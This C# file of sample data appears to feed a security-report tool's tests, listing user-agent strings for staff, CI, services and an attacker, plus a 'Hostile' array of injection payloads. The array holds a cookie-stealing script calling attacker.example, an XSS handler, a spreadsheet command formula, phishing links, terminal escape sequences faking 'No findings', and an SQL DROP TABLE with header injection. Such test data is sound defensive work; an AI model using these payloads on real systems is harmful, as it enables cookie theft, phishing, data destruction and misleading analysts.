namespace RecipePicks.Samples;

/// <summary>The user agents of the story.</summary>
internal static class Agents
{
    public const string Chrome =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36";
    public const string Safari =
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15";
    public const string Firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:136.0) Gecko/20100101 Firefox/136.0";
    public const string StaffCli =
        "aws-cli/2.24.18 md/awscrt#0.23.8 ua/2.1 os/macos#24.3.0 md/arch#arm64 lang/python#3.12.9 md/pyimpl#CPython m/Z,b,E cfg/retry-mode#standard md/installer#exe md/prompt#off";
    public const string CiCli =
        "aws-cli/2.24.10 md/awscrt#0.23.8 ua/2.1 os/linux#6.8.0-1021-azure md/arch#x86_64 lang/python#3.12.9 md/pyimpl#CPython exec-env/GitHubActions m/b,E cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.24 md/prompt#off";
    public const string AttackerCli =
        "aws-cli/2.15.30 md/Botocore#1.34.55 ua/2.0 os/linux#6.6.15-amd64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#legacy md/distrib#kali.2024";
    public const string AttackerScript =
        "Boto3/1.34.55 md/Botocore#1.34.55 ua/2.0 os/linux#6.6.15-amd64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.55";
    public const string AttackerBrowser = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0";
    public const string SsmAgent = "aws-sdk-go/1.55.5 (go1.23.4; linux; amd64) amazon-ssm-agent/3.3.1611.0";
    public const string OrdersService =
        "aws-sdk-java/2.30.14 md/io#sync md/http#Apache ua/2.1 os/Linux#6.1.128-136.201.amzn2023.x86_64 lang/java#21.0.6 md/OpenJDK_64-Bit_Server_VM#21.0.6+7-LTS m/D,e";
    public const string Vendor =
        "aws-sdk-go-v2/1.36.1 ua/2.1 os/linux lang/go#1.23.6 md/GOOS#linux md/GOARCH#amd64 m/E";
    public const string Lambda =
        "Boto3/1.36.20 md/Botocore#1.36.20 ua/2.0 os/linux#5.10.233-244.887.amzn2.x86_64 md/arch#x86_64 lang/python#3.13.1 md/pyimpl#CPython exec-env/AWS_Lambda_python3.13 cfg/retry-mode#legacy Botocore/1.36.20";

    /// <summary>What an attacker may write into the one field that is his: each is aimed at a different reader of a report.</summary>
    public static readonly string[] Hostile =
    [
        "aws-cli/2.15.30 \u001b[2J\u001b[1;1H\u001b[32mNo findings.\u001b[0m\u001b]0;owned\u0007",
        "<script>fetch('https://attacker.example/'+document.cookie)</script>",
        "<img src=x onerror=\"alert('report opened')\">",
        "=cmd|' /C calc.exe'!A0",
        "[open the full report](https://attacker.example/login) ![status](https://attacker.example/pixel.png)",
        "\"; DROP TABLE cloudtrail_logs; -- \r\nX-Injected: 1",
    ];
}
